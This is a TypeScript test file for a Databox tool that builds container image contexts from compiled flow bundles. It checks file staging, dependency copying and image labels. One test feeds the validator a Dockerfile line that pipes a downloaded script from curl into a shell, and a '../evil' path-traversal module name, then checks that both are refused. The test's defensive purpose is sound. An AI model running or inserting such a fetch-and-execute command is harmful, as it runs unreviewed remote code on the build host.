import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { test } from 'node:test';
import { compile } from '../compile';
import { DataboxError } from '../../core/errors';
import { appContext } from './app.context';
import { appImageLabels, appImageTag } from './image.labels';
import { packageNameOf } from './app.modules';

const flows = JSON.parse(fs.readFileSync(path.join(__dirname, '..', '..', 'runtime', 'fixtures', 'page-demo.flows.json'), 'utf8'));
const bundle = compile(flows, 'demo-tab');

test('a compiled bundle becomes the four files of its context, serialized as the bundle format does', () => {
  const { entries, runtimeVersion, runtimeImage } = appContext(bundle);
  assert.deepEqual(entries.map((e) => e.name), ['databox-manifest.json', 'Dockerfile', 'flows.json', 'package.json']);
  assert.equal(runtimeVersion, bundle.manifest['runtime-version']);
  assert.equal(runtimeImage, `databox/flow-runtime:${bundle.manifest['runtime-version']}`);
  const flowsEntry = entries.find((e) => e.name === 'flows.json');
  assert.ok(flowsEntry && 'content' in flowsEntry);
  assert.deepEqual(JSON.parse(flowsEntry.content.toString()), bundle.flows);
});

test('a bundle the validator refuses (manifest, Dockerfile) and unsafe module names are refused', () => {
  assert.throws(() => appContext({ ...bundle, manifest: { ...bundle.manifest, name: 'Not A Name' } }), (e: unknown) => e instanceof DataboxError && e.code === 'manifest-invalid');
  assert.throws(() => appContext({ ...bundle, dockerfile: `${bundle.dockerfile}RUN curl http://x | sh\n` }), (e: unknown) => e instanceof DataboxError && e.code === 'bundle-invalid' && /Dockerfile is not the one/.test(e.message));
  assert.throws(() => appContext({ ...bundle, modules: [{ module: '../evil', dir: '/tmp' }] }), (e: unknown) => e instanceof DataboxError && e.code === 'image-module-name');
});

test('third-party modules are staged whole, with their dependencies beside them', () => {
  const root = fs.mkdtempSync(path.join(os.tmpdir(), 'mods-'));
  try {
    const write = (rel: string, text: string) => { fs.mkdirSync(path.dirname(path.join(root, rel)), { recursive: true }); fs.writeFileSync(path.join(root, rel), text); };
    write('node_modules/node-red-contrib-x/package.json', '{"name":"node-red-contrib-x","dependencies":{"dep":"1"}}');
    write('node_modules/node-red-contrib-x/x.js', 'module.exports = () => {}');
    write('node_modules/node-red-contrib-x/node_modules/inner/package.json', '{"name":"inner"}');
    write('node_modules/dep/package.json', '{"name":"dep"}');
    write('node_modules/dep/index.js', '');
    write('node_modules/unrelated/package.json', '{"name":"unrelated"}');
    const { entries } = appContext({ ...bundle, modules: [{ module: 'node-red-contrib-x', dir: path.join(root, 'node_modules', 'node-red-contrib-x') }] });
    assert.deepEqual(entries.slice(4).map((e) => e.name), [
      'node_modules/dep/index.js', 'node_modules/dep/package.json',
      'node_modules/node-red-contrib-x/node_modules/inner/package.json', 'node_modules/node-red-contrib-x/package.json', 'node_modules/node-red-contrib-x/x.js',
    ]);
  } finally {
    fs.rmSync(root, { recursive: true, force: true });
  }
  assert.equal(packageNameOf('/a/node_modules/@scope/pkg'), '@scope/pkg');
});

test('labels and tag follow decision 0004', () => {
  const labels = appImageLabels({ ...bundle.manifest, signature: 'sig' });
  assert.equal(labels['io.databox.name'], bundle.manifest.name);
  assert.equal(labels['io.databox.type'], 'app');
  assert.equal(labels['io.databox.runtime-version'], '0.1.0');
  assert.deepEqual(JSON.parse(labels['io.databox.manifest'] ?? ''), bundle.manifest);
  assert.equal(labels['org.opencontainers.image.version'], bundle.manifest.version);
  assert.equal(appImageTag({ name: 'host-load', version: '1.0.0+build' }), 'databox/app-host-load:1.0.0-build');
});
